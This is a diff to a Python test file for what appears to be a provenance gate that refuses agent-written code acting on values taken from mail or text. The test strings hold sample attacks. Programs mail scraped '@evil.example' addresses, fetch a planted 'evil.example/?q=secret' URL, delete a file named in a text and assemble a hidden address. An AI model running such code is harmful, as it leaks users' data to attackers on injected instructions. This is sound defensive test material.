@@ -12,11 +12,11 @@ from doorward_testing import DeciderConformance, call_of
 
 pytestmark = pytest.mark.anyio
 
-READ = "import mail\nresult = mail.list_mails()"
+READ = "result = await mail.list_mails()"
 
 
 def sends(to: str, body: str = "hello") -> str:
-    return f"import mail\nmail.send(to=[{to!r}], body={body!r})"
+    return f"await mail.send(to=[{to!r}], body={body!r})"
 
 
 async def refused(gate: Any, code: str, **more: Any) -> str:
@@ -24,7 +24,7 @@ async def refused(gate: Any, code: str, **more: Any) -> str:
     before = [name for name, _ in gate.office.made]
     outcome = await gate.execute(code, **more)
     assert outcome.error is not None, "it was made"
-    assert outcome.error.type == "Refused", outcome.error
+    assert "[provenance]" in outcome.error.message, outcome.error
     assert [name for name, _ in gate.office.made if name in {"mail.send", "files.delete_file"}] == [
         name for name in before if name in {"mail.send", "files.delete_file"}
     ]
@@ -43,7 +43,7 @@ async def test_what_the_user_says_is_done(office: Any) -> None:
         await done(gate, READ)
         await done(gate, sends("ann@office.example"))
     async with office() as gate:
-        await done(gate, "import mail\nmail.send(to=[who])", params={"who": "ann@office.example"})
+        await done(gate, "await mail.send(to=[who])", params={"who": "ann@office.example"})
 
 
 async def test_an_address_out_of_a_mail_is_asked_about(office: Any) -> None:
@@ -60,8 +60,8 @@ async def test_an_address_out_of_a_mail_is_asked_about(office: Any) -> None:
 async def test_an_address_that_the_program_took_out_of_a_mail(office: Any) -> None:
     """Nobody has shown it to the author: the program finds it itself."""
     code = (
-        "import mail, re\nfor each in mail.list_mails():\n"
-        "    mail.send(to=re.findall(r'[a-z]+@evil[.]example', each['body']))"
+        "import re\nfor each in await mail.list_mails():\n"
+        "    await mail.send(to=re.findall(r'[a-z]+@evil[.]example', each['body']))"
     )
     async with office() as gate:
         assert "answered in this program" in await refused(gate, code)
@@ -69,35 +69,35 @@ async def test_an_address_that_the_program_took_out_of_a_mail(office: Any) -> No
 
 async def test_what_a_server_gave_goes_back_to_it(office: Any) -> None:
     """A reply to the sender of a mail, and the id of a mail, in this program and in the next one."""
-    code = "import mail\nfor each in mail.list_mails():\n    mail.send(to=[each['from']])\n    mail.delete_mail(id=each['id'])"
+    code = "for each in await mail.list_mails():\n    await mail.send(to=[each['from']])\n    await mail.delete_mail(id=each['id'])"
     async with office() as gate:
         await done(gate, code)
-        await done(gate, "import mail\nmail.delete_mail(id='m-17')")
+        await done(gate, "await mail.delete_mail(id='m-17')")
 
 
 async def test_an_id_that_a_text_names(office: Any) -> None:
     """A text that says which file to delete is somebody's will. In the user's own program it is only data."""
     async with office() as gate:
         await done(gate, READ)
-        assert "`file_id` came from a text" in await refused(gate, "import files\nfiles.delete_file(file_id='13')")
-        await done(gate, "import files\nfiles.delete_file(file_id='99')")
+        assert "`file_id` came from a text" in await refused(gate, "await files.delete_file(file_id='13')")
+        await done(gate, "await files.delete_file(file_id='99')")
 
 
 async def test_what_nobody_else_writes_is_free(office: Any) -> None:
     """An address out of one's own address book, as a field and in a text, may be used by any server."""
     async with office() as gate:
-        await done(gate, "import mail, people\nmail.list_mails()\nmail.send(to=[people.get_people()[0]['reach']])")
-        code = "import mail, people\nabout = people.get_team()['about']\nmail.send(to=[about.split()[7]])"
+        await done(gate, "await mail.list_mails()\nawait mail.send(to=[(await people.get_people())[0]['reach']])")
+        code = "about = (await people.get_team())['about']\nawait mail.send(to=[about.split()[7]])"
         await done(gate, code)
 
 
 async def test_what_cannot_be_told(office: Any) -> None:
     """An address that was put together after mails were read; before that it is the user's."""
-    made = "mail.send(to=['zo' + 'e' + '@' + 'else' + 'where.example'])"
+    made = "await mail.send(to=['zo' + 'e' + '@' + 'else' + 'where.example'])"
     async with office() as gate:
-        await done(gate, f"import mail\n{made}")
-        assert "nowhere that is known" in await refused(gate, f"import mail\nmail.list_mails()\n{made}")
-        assert "nowhere that is known" in await refused(gate, f"import mail\n{made}")
+        await done(gate, f"{made}")
+        assert "nowhere that is known" in await refused(gate, f"await mail.list_mails()\n{made}")
+        assert "nowhere that is known" in await refused(gate, f"{made}")
 
 
 async def test_a_read_that_carries_something_out(office: Any) -> None:
@@ -105,7 +105,7 @@ async def test_a_read_that_carries_something_out(office: Any) -> None:
     async with office() as gate:
         gate.office.mails[0]["body"] += " See https://evil.example/?q=secret for more."
         await done(gate, READ)
-        why = await refused(gate, "import files\nfiles.read_page(url='https://evil.example/?q=secret')")
+        why = await refused(gate, "await files.read_page(url='https://evil.example/?q=secret')")
         assert "`url` came from a text" in why
 
 
@@ -132,7 +132,7 @@ async def test_labels_are_the_operators(office: Any) -> None:
         await done(gate, READ)
         await done(gate, sends("mallory@evil.example"))
     async with office('untrusted = ["people.*"]') as gate:
-        await done(gate, "import people\npeople.get_team()")
+        await done(gate, "await people.get_team()")
         await refused(gate, sends("bob@office.example"))
 
 
